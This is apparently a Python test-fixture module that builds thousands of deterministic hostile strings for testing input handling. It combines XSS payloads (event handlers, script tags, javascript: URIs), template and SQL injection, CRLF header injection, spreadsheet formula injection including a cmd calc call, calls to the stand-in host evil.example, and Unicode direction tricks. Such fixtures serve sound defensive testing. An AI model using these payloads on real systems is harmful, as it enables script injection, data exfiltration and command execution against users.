"""Strings that try to become something else than text: markup, scripts, templates, formulas, directions, breaks."""

import itertools
import random

CALL = "hit(1)"
SCRIPTS = [CALL, "alert(1)", "top.hit(1)", "window['hit'](1)", "hit`1`", "import('/assets/x.js')", "location='//evil.example'",
           "fetch('//evil.example')", "document.write('<img src=//evil.example>')", "eval('hit(1)')"]
EVENTS = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter",
          "onbeforeinput", "onwheel", "ONERROR", "OnLoad", "onerror\t", "onerror\n", "on\u0000error"]
TAGS = ["<img src=x {e}={s}>", "<svg {e}={s}>", "<svg/{e}={s}//", "<body {e}={s}>", "<input autofocus {e}={s}>",
        "<details open {e}={s}>", "<video><source {e}={s}>", "<audio src=x {e}={s}>", "<iframe src=x {e}={s}>",
        "<marquee {e}={s}>", "<x {e}={s} tabindex=1 id=reply>", "<a href=# {e}={s}>x</a>", "<textarea {e}={s} autofocus>",
        "<select {e}={s} autofocus>", "<math><mi {e}={s}>", "<p data-part=thread {e}={s}>", "<button {e}={s}>认领</button>"]
BREAKS = ["", "\"", "'", "\">", "'>", "`", "--><!--", "]]>", "</textarea>", "</title>", "</script>", "</style>", "</template>",
          "</option></select>", "</bdi></h1>", "\" autofocus x=\"", "' x='", "\\\"", "&quot;", "&#34;&#62;", "%22%3E", "\u2028", "\0"]
WHOLE = [
    "<script>{s}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script src=/assets/console.js>{s}</script>",
    "<style>@import '//evil.example';*{{background:url(//evil.example)}}</style>", "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<object data='javascript:{s}'>",
    "<embed src='javascript:{s}'>", "<form action=//evil.example><button>x</button></form>", "<a href='javascript:{s}'>x</a>",
    "<a href=\"java\tscript:{s}\">x</a>", "<iframe srcdoc='<script>{s}</script>'>", "<svg><script>{s}</script></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload={s}>'>", "<img src='data:text/html,<script>{s}</script>'>",
    "<template><script>{s}</script></template>", "<noscript><p title=\"</noscript><img src=x onerror={s}>\">",
    "javascript:{s}", "JaVaScRiPt:{s}", "\u0001javascript:{s}", "data:text/html,<script>{s}</script>", "vbscript:{s}",
    "{{{{token}}}}", "{{{{{{token}}}}}}", "{{{{&token}}}}", "{{{{#words}}}}{s}{{{{/words}}}}", "{{{{> frame-top}}}}", "{{{{=<% %>=}}}}",
    "{{{{^x}}}}{s}{{{{/x}}}}", "${{{s}}}", "#{{{s}}}", "<%= {s} %>", "{{% {s} %}}", "[[${{{s}}}]]", "\\u003cscript\\u003e{s}",
    "&lt;script&gt;{s}&lt;/script&gt;", "&#x3c;img src=x onerror={s}&#x3e;", "+ADw-script+AD4-{s}", "\ufeff<script>{s}</script>",
    "＜script＞{s}＜/script＞", "<scr<script>ipt>{s}</scr</script>ipt>", "<![CDATA[<script>{s}</script>]]>", "<!--[if IE]>{s}<![endif]-->",
    "event: escalation\ndata: {s}\n\n", "\r\nSet-Cookie: x={s}\r\n\r\n", "'; DROP TABLE escalation; -- {s}", "%3Cscript%3E{s}%3C/script%3E"]
FORMULAS = [f"{sign}{call}" for sign in "=+-@\t\r＝＋－＠|" for call in
            ("1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"//evil.example\",\"x\")", "IMPORTXML(\"//evil.example\",\"//a\")", "SUM(A1:A9)")]
SIGNS = ["\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069", "\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2060", "\ufeff",
         "\u00ad", "\u2028", "\u2029", "\u0085", "\u000b", "\u000c", "\u001b[31m", "\0", "\u0300" * 60, "\U000e0041", "\ufff9", "\ufffe", "\ud7ff",
         "🏳️‍🌈", "﷽", "𒐫", "꧅"]


def strings(count=5000, seed=20200410):
    """So many different strings, the same in every run; a few of them are 64 KiB long."""
    draw = random.Random(seed)
    tagged = [tag.format(e=event, s=script) for tag, event, script in itertools.product(TAGS, EVENTS, SCRIPTS)]
    whole = [text.format(s=script) for text, script in itertools.product(WHOLE, SCRIPTS)]
    sign = [f"{before}{sign}{after}" for sign in SIGNS for before, after in (
        ("", ""), ("你好", "再见"), ("a", "<b>"), ("</bdi>", "<script>hit(1)</script>"), ("gnp.", "exe"))]
    # A share of each kind first, so that a small sample has all of them.
    kinds = [draw.sample(kind, len(kind)) for kind in (tagged, whole, sign, FORMULAS, BREAKS)]
    made = dict.fromkeys(text for some in itertools.zip_longest(*kinds) for text in some if text)
    for text in list(made):
        made[draw.choice(BREAKS) + text + draw.choice(SIGNS)] = None
    picked = list(made)[:count - 4]
    return picked + [("<b onclick=hit(1)>" * 4000)[:1 << 16], "𝕏" * (1 << 14), "\u202e" * 20000, "&" * (1 << 16)]
